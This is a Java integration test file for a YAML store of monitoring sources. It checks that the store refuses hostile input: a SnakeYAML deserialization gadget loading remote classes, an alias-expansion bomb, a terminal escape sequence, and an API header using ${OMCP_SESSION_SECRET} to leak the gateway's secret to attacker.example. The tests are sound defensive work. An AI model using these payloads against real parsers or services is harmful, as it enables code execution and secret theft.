package dev.omcp.adapters.storage.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.omcp.ports.plugins.PluginPin;
import dev.omcp.ports.sources.SourceDefinition;
import dev.omcp.ports.sources.SourceStoreException;
import dev.omcp.ports.sources.SourcesDocument;
import dev.omcp.sdk.connector.SourceConfig;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import dev.omcp.adapters.storage.files.SpecialFiles;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The sources file on a real file system. */
class YamlSourceStoreIT {
    @TempDir
    Path dir;

    private static final Map<String, String> ENV = Map.of("PROM_TOKEN", "tok-from-env", "PROM_HOST", "prom.example.com",
            "OMCP_SESSION_SECRET", "the-gateway-session-secret");

    private YamlSourceStore store(Path file, List<EnvironmentSource> env) {
        return new YamlSourceStore(Optional.ofNullable(file), dir, ENV, env);
    }

    private Path write(String name, String yaml) throws Exception {
        Path file = dir.resolve(name);
        Files.writeString(file, yaml);
        return file;
    }

    @Test
    void readsEntriesSettingsOverridesTenantsAndPins() throws Exception {
        Path file = write("sources.yaml", """
                sources:
                  - name: prod-prometheus
                    type: prometheus
                    url: https://${PROM_HOST}:9090
                    tenant: acme
                    auth: {type: bearer, token: "${PROM_TOKEN}"}
                    metrics:
                      cpu: 'sum by ({{by}}) (rate(my_cpu_total{{{selector}}}[{{window}}]))'
                    serviceLabels: [job, app]
                  - name: logs
                    type: loki
                    url: ${LOKI_URL:-http://loki.example.com:3100}
                    enabled: false
                plugins:
                  - {name: tempo, version: 1.2.0}
                """);
        SourcesDocument document = store(file, List.of()).load();

        assertThat(document.problems()).isEmpty();
        assertThat(document.sources()).hasSize(2);
        SourceConfig prom = document.sources().get(0).config();
        assertThat(prom.url()).isEqualTo("https://prom.example.com:9090");
        assertThat(prom.tenant()).isEqualTo("acme");
        assertThat(prom.settings().getJsonObject("auth").getString("token")).isEqualTo("tok-from-env");
        assertThat(prom.settings().getJsonObject("metrics").getString("cpu")).contains("my_cpu_total{{{selector}}}");
        assertThat(prom.settings().getJsonArray("serviceLabels")).hasSize(2);
        SourceDefinition logs = document.sources().get(1);
        assertThat(logs.enabled()).isFalse();
        assertThat(logs.config().url()).isEqualTo("http://loki.example.com:3100");
        assertThat(document.plugins()).containsExactly(new PluginPin("tempo", "1.2.0"));
        assertThat(document.sources()).allSatisfy(s -> assertThat(s.origin()).isEqualTo(SourceDefinition.Origin.FILE));
    }

    @Test
    void badEntriesAreSkippedWithTheirReasonAndKeptOnWriteBack() throws Exception {
        Path file = write("sources.yaml", """
                sources:
                  - name: good
                    type: prometheus
                    url: https://prom.example.com
                  - name: Bad Name
                    type: prometheus
                  - {type: loki}
                  - name: good
                    type: loki
                unknownTopLevel: keep-me
                """);
        YamlSourceStore store = store(file, List.of());
        SourcesDocument document = store.load();
        assertThat(document.sources()).extracting(SourceDefinition::name).containsExactly("good");
        assertThat(document.problems()).hasSize(3);
        assertThat(document.problems().get(0)).contains("entry 2").contains("lower-case");
        assertThat(document.problems().get(1)).contains("entry 3").contains("'name' is required");
        assertThat(document.problems().get(2)).contains("used twice");

        store.save(document.sources());
        String written = Files.readString(file);
        assertThat(written).contains("Bad Name").contains("unknownTopLevel: keep-me");
    }

    @Test
    void aTenantWithAnEscapeSequence_skipsItsSourceNamingWhy_andTheOthersLoad() throws Exception {
        Path file = write("sources.yaml", """
                sources:
                  - name: acme-prom
                    type: prometheus
                    url: https://prom.example.com
                    tenant: "acme\\e[2J"
                  - name: shared
                    type: prometheus
                    url: https://prom.example.com
                """);
        SourcesDocument document = store(file, List.of()).load();

        assertThat(document.sources()).extracting(SourceDefinition::name).containsExactly("shared");
        assertThat(document.problems()).singleElement().asString().contains("entry 1").contains("tenant 'acme?[2J'")
                .doesNotContain("\u001b");
    }

    @Test
    void aBrokenFileIsNeverOverwritten() throws Exception {
        Path file = write("sources.yaml", "sources:\n  - name: [unclosed\n");
        YamlSourceStore store = store(file, List.of());
        SourcesDocument document = store.load();
        assertThat(document.writable()).isFalse();
        assertThat(document.problems()).singleElement().satisfies(p -> assertThat(p).contains("not valid YAML").contains("line"));
        assertThatThrownBy(() -> store.save(List.of())).isInstanceOf(SourceStoreException.class);
        assertThat(Files.readString(file)).isEqualTo("sources:\n  - name: [unclosed\n");
    }

    @Test
    void unsafeYamlTagsAreRefused() throws Exception {
        Path file = write("sources.yaml", "sources: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n");
        SourcesDocument document = store(file, List.of()).load();
        assertThat(document.writable()).isFalse();
        assertThat(document.sources()).isEmpty();
    }

    @Test
    void aliasesOfOneHugeScalarAreRefusedBeforeAnythingCopiesThem() throws Exception {
        // 1 MB on disk, 150,000 aliases of one 400 KB string: 60 GB once each value is substituted
        String bomb = "sources:\n  - name: p\n    type: prometheus\n    url: http://prom:9090\n    metrics:\n      bomb: &a \""
                + "A".repeat(400_000) + "\"\n    extra: [" + String.join(", ", java.util.Collections.nCopies(150_000, "*a")) + "]\n";
        Path file = write("sources.yaml", bomb);
        SourcesDocument document = store(file, List.of()).load();
        assertThat(document.writable()).isFalse();
        assertThat(document.sources()).isEmpty();
        assertThat(document.problems()).singleElement().asString().contains("expands to more than 4 MiB").contains("aliases");
    }

    @Test
    void anchorsSharedBetweenAFewSourcesStillLoad() throws Exception {
        Path file = write("sources.yaml", """
                sources:
                  - name: a
                    type: prometheus
                    url: http://a:9090
                    auth: &auth {type: bearer, token: "${PROM_TOKEN}"}
                    serviceLabels: &labels [job, app]
                  - name: b
                    type: prometheus
                    url: http://b:9090
                    auth: *auth
                    serviceLabels: *labels
                """);
        SourcesDocument document = store(file, List.of()).load();
        assertThat(document.problems()).isEmpty();
        assertThat(document.sources()).hasSize(2);
        assertThat(document.sources().get(1).config().settings().getJsonObject("auth").getString("token")).isEqualTo("tok-from-env");
    }

    @Test
    void writeBackKeepsVariableReferencesAndNeverWritesTheSecret() throws Exception {
        Path file = write("sources.yaml", """
                sources:
                  - name: prom
                    type: prometheus
                    url: https://${PROM_HOST}
                    auth: {type: bearer, token: "${PROM_TOKEN}"}
                """);
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-r-----"));
        YamlSourceStore store = store(file, List.of());
        SourcesDocument document = store.load();
        SourceConfig prom = document.sources().get(0).config();
        // an API edit that changes another setting and sends the substituted values back unchanged
        JsonObject edited = Json.createObjectBuilder(prom.settings()).add("logFormat", "json").build();
        List<SourceDefinition> next = new ArrayList<>();
        next.add(new SourceDefinition(new SourceConfig("prom", "prometheus", prom.url(), "", edited), true, SourceDefinition.Origin.FILE));
        next.add(new SourceDefinition(new SourceConfig("added", "loki", "https://loki.example.com", "t1",
                Json.createObjectBuilder().add("auth", Json.createObjectBuilder().add("type", "basic").add("username", "u")
                        .add("password", "typed-in-the-ui")).build()), true, SourceDefinition.Origin.API));
        store.save(next);

        String written = Files.readString(file);
        assertThat(written).contains("${PROM_TOKEN}").contains("https://${PROM_HOST}").doesNotContain("tok-from-env")
                .doesNotContain("prom.example.com").contains("logFormat: json").contains("typed-in-the-ui");
        // the password typed in is written out, so the group may no longer read the file (SourcesFileModeIT)
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file))).isEqualTo("rw-------");
        try (var files = Files.list(dir)) {
            assertThat(files.map(p -> p.getFileName().toString())).containsExactlyInAnyOrder("sources.yaml", "sources.yaml.lock");
        }
        // reading it back gives the same values, and saving again still keeps the references
        SourcesDocument reread = store.load();
        assertThat(reread.sources()).hasSize(2);
        assertThat(reread.sources().get(0).config().settings().getJsonObject("auth").getString("token")).isEqualTo("tok-from-env");
        store.save(reread.sources());
        assertThat(Files.readString(file)).contains("${PROM_TOKEN}").doesNotContain("tok-from-env");
    }

    @Test
    void aSaveTheNextStartCouldNotReadIsRefusedAndTheFileKept() throws Exception {
        String original = "sources:\n  - {name: prom, type: prometheus, url: 'https://p.example.com'}\n";
        Path file = write("sources.yaml", original);
        YamlSourceStore store = store(file, List.of());
        SourceConfig prom = store.load().sources().get(0).config();

        // settings nested deeper than the loader's limit (an API body of 60 levels is valid JSON)
        jakarta.json.JsonObjectBuilder deep = Json.createObjectBuilder().add("leaf", 1);
        for (int i = 0; i < 60; i++) {
            deep = Json.createObjectBuilder().add("a", deep);
        }
        JsonObject deepSettings = deep.build();
        assertThatThrownBy(() -> store.save(List.of(new SourceDefinition(new SourceConfig("prom", "prometheus", prom.url(), "",
                deepSettings), true, SourceDefinition.Origin.FILE))))
                .isInstanceOf(SourceStoreException.class).hasMessageContaining("not be readable at the next start");
        assertThat(Files.readString(file)).isEqualTo(original);

        // several sources that each fit an API body but together pass the 1 MiB the loader reads
        List<SourceDefinition> big = new ArrayList<>();
        for (int i = 0; i < 3; i++) {
            big.add(new SourceDefinition(new SourceConfig("big-" + i, "prometheus", "https://p.example.com", "",
                    Json.createObjectBuilder().add("note", "x".repeat(500_000)).build()), true, SourceDefinition.Origin.API));
        }
        assertThatThrownBy(() -> store.save(big)).isInstanceOf(SourceStoreException.class).hasMessageContaining("more than the 1 MiB");
        assertThat(Files.readString(file)).isEqualTo(original);
        try (var files = Files.list(dir)) {
            assertThat(files.map(p -> p.getFileName().toString())).containsExactly("sources.yaml");
        }
        // what was refused changed nothing: the next save still works and the file still loads
        store.save(store.load().sources());
        assertThat(store.load().sources()).extracting(SourceDefinition::name).containsExactly("prom");
    }

    @Test
    void removingASourceWhoseNameASkippedEntryAlsoHolds_isRefusedNamingThatEntry_soTheRemovedSourceCannotComeBack() throws Exception {
        String original = """
                sources:
                  - name: prom
                    type: prometheus
                    url: https://prom.example.com
                  - name: logs
                    type: loki
                    url: https://loki.example.com
                  - name: prom
                    type: prometheus
                    url: https://other.example.com
                """;
        Path file = write("sources.yaml", original);
        YamlSourceStore store = store(file, List.of());
        SourcesDocument document = store.load();
        assertThat(document.sources()).extracting(SourceDefinition::name).containsExactly("prom", "logs");
        SourceDefinition logs = document.sources().get(1);

        // saved without 'prom', the file would hold only the other entry of that name, which the next start would load
        assertThatThrownBy(() -> store.save(List.of(logs))).isInstanceOfSatisfying(SourceStoreException.class,
                        // a conflict with the file the operator must resolve, not a write that failed and may work if sent again
                        e -> assertThat(e.isConflict()).isTrue())
                .hasMessageContaining("sources entry 3 (line 8)").hasMessageContaining("'prom'")
                .hasMessageContaining("nothing was written").hasMessageContaining("fix the file")
                .hasMessageNotContaining("other.example.com");
        assertThat(Files.readString(file)).isEqualTo(original);

        // a change that keeps 'prom' is written, the skipped entry kept after it; removing another source too
        store.save(List.of(document.sources().get(0)));
        assertThat(store.load().sources()).extracting(SourceDefinition::name).containsExactly("prom");
        assertThat(Files.readString(file)).contains("other.example.com");
        // the rewritten file moved that entry: the refusal names where it is now
        assertThatThrownBy(() -> store.save(List.of())).isInstanceOf(SourceStoreException.class)
                .hasMessageContaining("sources entry 2 (line 5)");
    }

    @Test
    void aDefinitionWithASettingNamedLikeAnOwnField_isRefusedByTheStoreItself_andTheFileKept() throws Exception {
        String original = "sources:\n  - {name: prom, type: prometheus, url: 'https://p.example.com'}\n";
        Path file = write("sources.yaml", original);
        YamlSourceStore store = store(file, List.of());
        store.load();

        for (String field : SourceDefinition.OWN_FIELDS) {
            JsonObject shadowing = Json.createObjectBuilder().add(field, "https://attacker.example").build();
            assertThatThrownBy(() -> store.save(List.of(new SourceDefinition(new SourceConfig("prom", "prometheus",
                    "https://p.example.com", "", shadowing), true, SourceDefinition.Origin.EMBEDDED))))
                    .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("settings." + field)
                    .hasMessageContaining("nothing was written").hasMessageNotContaining("attacker");
            assertThat(Files.readString(file)).isEqualTo(original);
        }
    }

    @Test
    void aChangedSecretIsWrittenAsGiven() throws Exception {
        Path file = write("sources.yaml", "sources:\n  - {name: prom, type: prometheus, url: 'https://p.example.com', auth: {type: bearer, token: '${PROM_TOKEN}'}}\n");
        YamlSourceStore store = store(file, List.of());
        store.load();
        store.save(List.of(new SourceDefinition(new SourceConfig("prom", "prometheus", "https://p.example.com", "",
                Json.createObjectBuilder().add("auth", Json.createObjectBuilder().add("type", "bearer").add("token", "rotated")).build()),
                true, SourceDefinition.Origin.FILE)));
        assertThat(Files.readString(file)).contains("rotated").doesNotContain("${PROM_TOKEN}");
    }

    @Test
    void withoutAFileEnvironmentUrlsMakeSourcesAndTheFirstSaveCreatesTheFile() throws Exception {
        List<EnvironmentSource> env = List.of(
                new EnvironmentSource("prometheus", "PROMETHEUS_URL", List.of("http://prom-a.example.com", "http://prom-b.example.com")),
                new EnvironmentSource("loki", "LOGS_URL", List.of("http://loki.example.com")));
        Map<String, String> environment = Map.of("PROMETHEUS_URL", "http://prom-a.example.com,http://prom-b.example.com",
                "LOGS_URL", "http://loki.example.com");
        YamlSourceStore store = new YamlSourceStore(Optional.empty(), dir, environment, env);
        SourcesDocument document = store.load();
        assertThat(document.sources()).extracting(SourceDefinition::name).containsExactly("prometheus-1", "prometheus-2", "loki");
        assertThat(document.sources()).allSatisfy(s -> assertThat(s.origin()).isEqualTo(SourceDefinition.Origin.ENVIRONMENT));
        assertThat(store.describe()).isEqualTo("environment");

        store.save(document.sources());
        Path created = dir.resolve("config").resolve("sources.yaml");
        assertThat(created).exists();
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(created))).isEqualTo("rw-------");
        assertThat(Files.readString(created)).contains("url: ${LOGS_URL}").contains("http://prom-a.example.com");
    }

    @Test
    void noFileAndNoVariablesMeansNoSources() {
        SourcesDocument document = store(null, List.of()).load();
        assertThat(document.sources()).isEmpty();
        assertThat(document.problems()).isEmpty();
        assertThat(document.writable()).isTrue();
    }

    @Test
    void anUnwritableDirectoryFailsTheSaveAndKeepsTheFile() throws Exception {
        Path sub = Files.createDirectory(dir.resolve("ro"));
        Path file = sub.resolve("sources.yaml");
        Files.writeString(file, "sources: []\n");
        YamlSourceStore store = new YamlSourceStore(Optional.of(file), dir, ENV, List.of());
        store.load();
        Files.setPosixFilePermissions(sub, PosixFilePermissions.fromString("r-x------"));
        try {
            if (Files.isWritable(sub)) {
                return; // running as root: permissions do not stop writes, nothing to check here
            }
            assertThatThrownBy(() -> store.save(List.of())).isInstanceOf(SourceStoreException.class)
                    .hasMessageContaining("cannot be written");
            assertThat(Files.readString(file)).isEqualTo("sources: []\n");
        } finally {
            Files.setPosixFilePermissions(sub, PosixFilePermissions.fromString("rwx------"));
        }
    }

    @Test
    void aLinkedSourcesFileIsReadButNeverReplacedByAWrite() throws Exception {
        // a mounted Kubernetes ConfigMap is a link: reading through it is what the operator wants
        Path real = write("configmap-sources.yaml", "sources:\n  - {name: prom, type: prometheus, url: 'https://p.example.com'}\n");
        Path link = Files.createSymbolicLink(dir.resolve("sources.yaml"), real);
        YamlSourceStore store = store(link, List.of());
        assertThat(store.load().sources()).extracting(SourceDefinition::name).containsExactly("prom");

        assertThatThrownBy(() -> store.save(List.of())).isInstanceOf(SourceStoreException.class)
                .hasMessageContaining("symbolic link").hasMessageContaining("nothing was written")
                .hasMessageContaining("CONFIG_PATH");

        assertThat(Files.isSymbolicLink(link)).isTrue();
        assertThat(Files.readString(real)).contains("name: prom");
        try (var files = Files.list(dir)) {
            assertThat(files.map(p -> p.getFileName().toString())).containsExactlyInAnyOrder("configmap-sources.yaml", "sources.yaml");
        }
    }

    private static String onlyProblem(SourcesDocument document) {
        assertThat(document.writable()).isFalse();
        assertThat(document.sources()).isEmpty();
        assertThat(document.problems()).hasSize(1);
        return document.problems().getFirst();
    }

    @Test
    void aDuplicateKeyIsRefusedWithItsLineAndColumn_andTheFileKept() throws Exception {
        String original = """
                sources:
                  - name: prom
                    type: prometheus
                    url: https://a.example.com
                    url: https://b.example.com
                """;
        Path file = write("sources.yaml", original);
        YamlSourceStore store = store(file, List.of());
        // last-wins would silently query a backend the operator may not have meant
        assertThat(onlyProblem(store.load())).isEqualTo("the sources file is not valid YAML at line 5, column 5: "
                + "found duplicate key url (while constructing a mapping)");
        assertThatThrownBy(() -> store.save(List.of())).isInstanceOf(SourceStoreException.class);
        assertThat(Files.readString(file)).isEqualTo(original);
    }

    @Test
    void aPinVersionThatYamlReadAsANumber_isRefusedAsWritten_withHowToQuoteIt() throws Exception {
        // version: 1.10 is the number 1.1 to YAML; the problem named '1.1', a version nobody wrote
        Path file = write("sources.yaml", """
                plugins:
                  - {name: tempo, version: 1.10}
                  - {name: zipkin, version: 2.0.1}
                """);
        SourcesDocument document = store(file, List.of()).load();

        assertThat(document.problems()).containsExactly("plugins entry 1: 'version' of 'tempo' is a number to YAML; write the exact "
                + "semantic version in quotes, for example version: \"1.2.0\"");
        assertThat(document.plugins()).containsExactly(new PluginPin("zipkin", "2.0.1"));
    }

    @Test
    void aNumberThatIsNotFinite_isRefusedNamingItsKey_andTheOtherSourcesLoad() throws Exception {
        // .nan, .inf and 1e999 (beyond a double) failed as "Infinite or NaN", naming neither the key nor what to write
        Path file = write("sources.yaml", """
                sources:
                  - {name: a, type: prometheus, url: 'https://a.example.com', timeout: .nan}
                  - {name: b, type: prometheus, url: 'https://b.example.com', limits: {max: 1e999}}
                  - {name: c, type: prometheus, url: 'https://c.example.com', ratio: 0.5}
                health:
                  thresholds:
                    latency: {degraded: -.inf}
                """);
        SourcesDocument document = store(file, List.of()).load();

        assertThat(document.problems()).containsExactly(
                "sources entry 1: 'timeout' is not a finite number (.nan, .inf, or too large for a double); write a number such as 0.5",
                "sources entry 2: 'limits.max' is not a finite number (.nan, .inf, or too large for a double); write a number such as 0.5");
        assertThat(document.sources()).extracting(s -> s.config().name()).containsExactly("c");
        assertThat(document.healthThresholds()).isEqualTo(new dev.omcp.ports.settings.StoredThresholds.Unreadable(List.of(
                "health.thresholds.latency.degraded: 'health.thresholds.latency.degraded' is not a finite number (.nan, .inf, or too "
                        + "large for a double); write a number such as 0.5")));
    }

    @Test
    void aSyntaxErrorIsLocated_withoutQuotingTheLineThatHoldsASecret() throws Exception {
        Path file = write("sources.yaml", """
                sources:
                  - name: prom
                    type: prometheus
                    url: https://a.example.com
                    auth: {type: bearer, token: hunter2-literal-token]
                """);
        String problem = onlyProblem(store(file, List.of()).load());
        assertThat(problem).startsWith("the sources file is not valid YAML at line 5, column ").doesNotContain("hunter2");
    }

    @Test
    void aFifoOrADeviceAsTheSourcesFile_isRefusedAtOnce() throws Exception {
        Path fifo = SpecialFiles.fifo(dir.resolve("fifo.yaml"));
        Path zero = SpecialFiles.endless(dir.resolve("zero.yaml"));
        for (Path path : List.of(fifo, zero)) {
            YamlSourceStore store = store(path, List.of());
            SourcesDocument document = assertTimeoutPreemptively(Duration.ofSeconds(10), store::load);
            assertThat(onlyProblem(document)).startsWith("the sources file is not a regular file");
            assertThatThrownBy(() -> store.save(List.of())).isInstanceOf(SourceStoreException.class);
        }
        assertThat(Files.isSymbolicLink(zero)).isTrue();
    }

    @Test
    void aDirectoryAsTheSourcesFile_isRefusedNamingWhatToDo() throws Exception {
        Path sub = Files.createDirectory(dir.resolve("sources.yaml"));
        assertThat(onlyProblem(store(sub, List.of()).load())).isEqualTo("the sources file is a directory; name the file inside it");
    }

    @Test
    void aFileThatIsNotUtf8_isRefusedNamingTheLine() throws Exception {
        Path file = dir.resolve("sources.yaml");
        Files.write(file, "sources:\n  - {name: caf\u00e9, type: prometheus}\n".getBytes(StandardCharsets.ISO_8859_1));
        assertThat(onlyProblem(store(file, List.of()).load())).startsWith("the sources file is not UTF-8 text: line 2, column 15");
    }

    @Test
    void aByteOrderMarkAndCrlfLineEnds_load() throws Exception {
        Path file = dir.resolve("sources.yaml");
        Files.write(file, "\uFEFFsources:\r\n  - name: prom\r\n    type: prometheus\r\n    url: https://p.example.com\r\n"
                .getBytes(StandardCharsets.UTF_8));
        SourcesDocument document = store(file, List.of()).load();
        assertThat(document.problems()).isEmpty();
        assertThat(document.sources()).singleElement().satisfies(s -> assertThat(s.config().url()).isEqualTo("https://p.example.com"));
    }

    @Test
    void aReferenceTypedIntoTheApi_isWrittenEscaped_soTheNextStartDoesNotSendTheGatewaysSecret() throws Exception {
        Path file = write("sources.yaml", "sources: []\n");
        YamlSourceStore store = store(file, List.of());
        store.load();
        // an API user with sources:write points a header of their own backend at the gateway's environment
        JsonObject settings = Json.createObjectBuilder().add("headers", Json.createObjectBuilder()
                .add("X-Leak", "${OMCP_SESSION_SECRET}").add("X-Both", "$${PROM_TOKEN} and ${PROM_TOKEN:-x}")).build();
        store.save(List.of(new SourceDefinition(new SourceConfig("theirs", "loki", "https://attacker.example", "", settings), true,
                SourceDefinition.Origin.API)));

        assertThat(Files.readString(file)).contains("$${OMCP_SESSION_SECRET}").doesNotContain("the-gateway-session-secret");
        SourcesDocument restarted = store(file, List.of()).load();
        assertThat(restarted.problems()).isEmpty();
        // after a restart the values are exactly what the API user typed, not the environment's
        assertThat(restarted.sources().getFirst().config().settings()).isEqualTo(settings);
        assertThat(Files.readString(file)).doesNotContain("tok-from-env");
    }

    @Test
    void aListThatGainsAnItem_keepsTheReferencesOfTheOthers() throws Exception {
        Path file = write("sources.yaml", """
                sources:
                  - name: prom
                    type: prometheus
                    url: https://p.example.com
                    extraArgs: ["--token=${PROM_TOKEN}", "--host=${PROM_HOST}"]
                """);
        YamlSourceStore store = store(file, List.of());
        SourceConfig prom = store.load().sources().getFirst().config();
        JsonObject edited = Json.createObjectBuilder(prom.settings()).add("extraArgs", Json.createArrayBuilder()
                .add("--verbose").addAll(Json.createArrayBuilder(prom.settings().getJsonArray("extraArgs")))).build();
        store.save(List.of(new SourceDefinition(new SourceConfig("prom", "prometheus", prom.url(), "", edited), true,
                SourceDefinition.Origin.FILE)));

        assertThat(Files.readString(file)).contains("--token=${PROM_TOKEN}", "--host=${PROM_HOST}", "--verbose")
                .doesNotContain("tok-from-env");
    }

    @Test
    void enabledAsAVariable_takesTrueOrFalseFromIt_andAnythingElseSkipsTheEntryNamingTheVariableNotItsValue() throws Exception {
        Path file = write("sources.yaml", """
                sources:
                  - {name: set-off, type: prometheus, url: https://a.example.com, enabled: "${PROM_OFF}"}
                  - {name: set-over-default, type: prometheus, url: https://b.example.com, enabled: "${PROM_ON:-false}"}
                  - {name: by-default, type: prometheus, url: https://c.example.com, enabled: "${PROM_UNSET_D:-false}"}
                  - {name: any-case, type: loki, url: https://d.example.com, enabled: "${LOKI_ON}"}
                  - {name: words, type: loki, url: https://e.example.com, enabled: "${LOKI_WORDS}"}
                  - {name: unset, type: loki, url: https://f.example.com, enabled: "${LOKI_UNSET}"}
                  - {name: empty, type: loki, url: https://g.example.com, enabled: "${LOKI_EMPTY}"}
                  - {name: text, type: loki, url: https://h.example.com, enabled: "maybe"}
                """);
        Map<String, String> env = Map.of("PROM_OFF", "false", "PROM_ON", "true", "LOKI_ON", " TRUE ", "LOKI_WORDS", "hunter2",
                "LOKI_EMPTY", "");

        SourcesDocument document = new YamlSourceStore(Optional.of(file), dir, env, List.of()).load();

        assertThat(document.sources()).extracting(SourceDefinition::name, SourceDefinition::enabled).containsExactly(
                tuple("set-off", false), tuple("set-over-default", true), tuple("by-default", false), tuple("any-case", true));
        assertThat(document.problems()).containsExactly(
                "sources entry 5: 'enabled': ${LOKI_WORDS} gives 7 characters that are neither true nor false; set LOKI_WORDS to "
                        + "true or false (yes/no and on/off work too)",
                "sources entry 6: 'enabled': ${LOKI_UNSET} gives neither true nor false: LOKI_UNSET is not set; set it to true or "
                        + "false (yes/no and on/off work too), or give a default: ${LOKI_UNSET:-true}",
                "sources entry 7: 'enabled': ${LOKI_EMPTY} gives an empty value; set LOKI_EMPTY to true or false (yes/no and on/off "
                        + "work too)",
                "sources entry 8: 'enabled': 'maybe' is neither true nor false; write true or false (yes/no and on/off work too, "
                        + "in any case), or a ${VAR} that gives one");
        assertThat(String.join("\n", document.problems())).doesNotContain("hunter2");
    }

    @Test
    void enabledAsAVariable_isWrittenBackAsTheVariable_untilTheApiSwitchesTheSource() throws Exception {
        Path file = write("sources.yaml", """
                sources:
                  - name: logs
                    type: loki
                    url: https://loki.example.com
                    enabled: ${LOKI_ENABLED}
                  - name: prom
                    type: prometheus
                    url: https://prom.example.com
                    enabled: ${PROM_ENABLED:-true}
                """);
        Map<String, String> env = Map.of("LOKI_ENABLED", "false");
        YamlSourceStore store = new YamlSourceStore(Optional.of(file), dir, env, List.of());
        List<SourceDefinition> loaded = store.load().sources();
        // an API edit of another setting sends each source back in the state the variable gave it
        List<SourceDefinition> edited = loaded.stream().map(d -> new SourceDefinition(new SourceConfig(d.name(), d.config().type(),
                d.config().url(), "", Json.createObjectBuilder().add("logFormat", "json").build()), d.enabled(), d.origin())).toList();
        store.save(edited);

        assertThat(Files.readString(file)).contains("enabled: ${LOKI_ENABLED}", "enabled: ${PROM_ENABLED:-true}", "logFormat: json");
        SourcesDocument restarted = new YamlSourceStore(Optional.of(file), dir, Map.of("LOKI_ENABLED", "true"), List.of()).load();
        assertThat(restarted.problems()).isEmpty();
        // the next start follows the variable again
        assertThat(restarted.sources()).extracting(SourceDefinition::enabled).containsExactly(true, true);

        // switching a source through the API is a change the variable no longer says: the state is written out
        store.save(List.of(edited.get(0), new SourceDefinition(edited.get(1).config(), false, SourceDefinition.Origin.FILE)));
        assertThat(Files.readString(file)).contains("enabled: ${LOKI_ENABLED}").doesNotContain("PROM_ENABLED")
                .containsOnlyOnce("enabled: false");
    }

    @Test
    void enabledTakesTheSameSpellings_writtenOrFromAVariable_trueFalseYesNoOnOffInAnyCase() throws Exception {
        String text = """
                sources:
                  - {name: yaml-yes, type: prometheus, url: https://a.example.com, enabled: yes}
                  - {name: quoted-no, type: prometheus, url: https://b.example.com, enabled: "no"}
                  - {name: mixed-case-off, type: prometheus, url: https://c.example.com, enabled: oFF}
                  - {name: quoted-true, type: prometheus, url: https://d.example.com, enabled: "TRUE"}
                  - {name: var-yes, type: loki, url: https://e.example.com, enabled: "${E_ON}"}
                  - {name: var-off, type: loki, url: https://f.example.com, enabled: "${F_OFF}"}
                  - {name: var-one, type: loki, url: https://g.example.com, enabled: "${G_ONE}"}
                  - {name: zero, type: loki, url: https://h.example.com, enabled: 0}
                  - {name: typo, type: loki, url: https://i.example.com, enabled: ture}
                """;
        Path file = write("sources.yaml", text);
        YamlSourceStore store = new YamlSourceStore(Optional.of(file), dir, Map.of("E_ON", " Yes\n", "F_OFF", "off", "G_ONE", "1"),
                List.of());

        SourcesDocument document = store.load();

        assertThat(document.sources()).extracting(SourceDefinition::name, SourceDefinition::enabled).containsExactly(
                tuple("yaml-yes", true), tuple("quoted-no", false), tuple("mixed-case-off", false), tuple("quoted-true", true),
                tuple("var-yes", true), tuple("var-off", false));
        String fix = "write true or false (yes/no and on/off work too, in any case), or a ${VAR} that gives one";
        assertThat(document.problems()).containsExactly(
                "sources entry 7: 'enabled': ${G_ONE} gives 1 character that is neither true nor false; set G_ONE to true or "
                        + "false (yes/no and on/off work too)",
                "sources entry 8: 'enabled': the number 0 is neither true nor false; " + fix,
                "sources entry 9: 'enabled': 'ture' is neither true nor false; " + fix);
        // reading changes nothing, and the skipped entries survive a write-back as they were written
        assertThat(Files.readString(file)).isEqualTo(text);
        store.save(document.sources());
        SourcesDocument reread = new YamlSourceStore(Optional.of(file), dir, Map.of("E_ON", " Yes\n", "F_OFF", "off", "G_ONE", "1"),
                List.of()).load();
        assertThat(reread.sources()).extracting(SourceDefinition::name, SourceDefinition::enabled)
                .containsExactlyElementsOf(document.sources().stream().map(d -> tuple(d.name(), d.enabled())).toList());
        assertThat(reread.problems()).isEqualTo(document.problems());
        assertThat(Files.readString(file)).contains("enabled: ${E_ON}", "enabled: ${F_OFF}", "enabled: ${G_ONE}", "enabled: 0",
                "enabled: ture");
    }
}
